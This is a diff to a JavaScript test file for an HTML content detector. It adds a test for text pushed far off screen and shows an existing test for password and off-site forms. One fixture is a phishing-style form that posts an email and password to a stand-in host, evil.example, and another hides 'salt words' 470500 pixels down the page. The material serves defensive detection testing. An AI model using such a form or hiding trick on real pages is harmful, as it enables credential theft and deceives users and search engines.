@@ -47,6 +47,11 @@ describe('content detector: hidden text, obfuscation and forms', () => {
     expect(contentRules(htmlModel({ raw: layout }))).not.toContain('TINY_FONT_TEXT');
   });
 
+  it('fires on content pushed thousands of pixels off screen, not on the classic -9999px image replacement', () => {
+    expect(contentRules(htmlModel({ raw: '<div style="margin-top: 470500px">salt words</div>' }))).toContain('OFFSCREEN_TEXT');
+    expect(contentRules(htmlModel({ raw: '<h1 style="text-indent:-9999px">Logo</h1>' }))).toEqual([]);
+  });
+
   it('fires on a password form and an off-site account form; not on a newsletter search box', () => {
     const pwd = htmlModel({ raw: '<form action="https://evil.example/p.php" method="post"><input type="email" name="email"><input type="password" name="pw"></form>' });
     expect(contentRules(pwd)).toEqual(expect.arrayContaining(['HTML_FORM_PASSWORD', 'HTML_FORM_OFFSITE']));
